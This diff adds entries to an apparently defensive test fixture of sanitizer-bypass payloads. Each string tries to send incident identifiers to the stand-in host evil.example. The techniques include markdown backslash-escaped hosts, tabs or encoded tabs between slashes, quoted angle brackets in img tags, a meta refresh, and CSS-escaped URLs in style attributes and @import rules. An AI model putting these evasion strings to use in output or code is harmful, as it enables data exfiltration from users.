@@ -142,6 +142,21 @@ TO_EVIL = {
     "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/?d=1">',
     "ipv6-literal": "https://[2001:db8::1]:8443/x?d=INC-002 and https://evil.example",
     "ipv6-in-markdown": "[report](https://[2001:db8::1]/r?d=INC-002) via evil.example/",
+    # CommonMark undoes backslash escapes: `status.acme.com\.evil.example` is one host to it.
+    "md-escaped-dot": "![x](https://status.acme.com\\.evil.example/INC-002.png)",
+    "md-escaped-slashes": "![x](\\/\\/status.acme.com\\.evil.example/INC-002.png)",
+    "md-escaped-colon": "![x](https\\:evil\\.example/p.png?d=INC-002)",
+    "ref-escaped-dot": "[1]: https://status.acme.com\\.evil.example/INC-002.png",
+    "bare-escaped-dot": "See https://status.acme.com\\.evil.example/x for it.",
+    # A quoted `>` or `<` does not end a tag; a tab between the slashes is dropped by browsers.
+    "quoted-gt-and-tab": '<img alt=">" src="/&#9;/evil.example/x?d=INC-002">',
+    "quoted-lt-and-tab": "<img alt='<' src=\"/\t/evil.example/x?d=INC-002\">",
+    "meta-refresh-tab": '<meta http-equiv="refresh" content="0;url=/&#9;/evil.example/?d=1">',
+    # CSS escapes, in a style attribute and in a stylesheet.
+    "css-escapes": "<div style=\"background:url('\\68ttps\\3a\\2f\\2f evil\\2e example\\2fx')\">",
+    "style-block": "<style>body{background:url('https://evil.example/x?d=INC-002')}</style>",
+    "style-import-escaped": "<style>@import '\\68ttps\\3a\\2f\\2f evil\\2e example\\2fx';</style>",
+    "style-unclosed": "<style>@import 'https://evil.example/x.css?d=1'",
 }
 
 
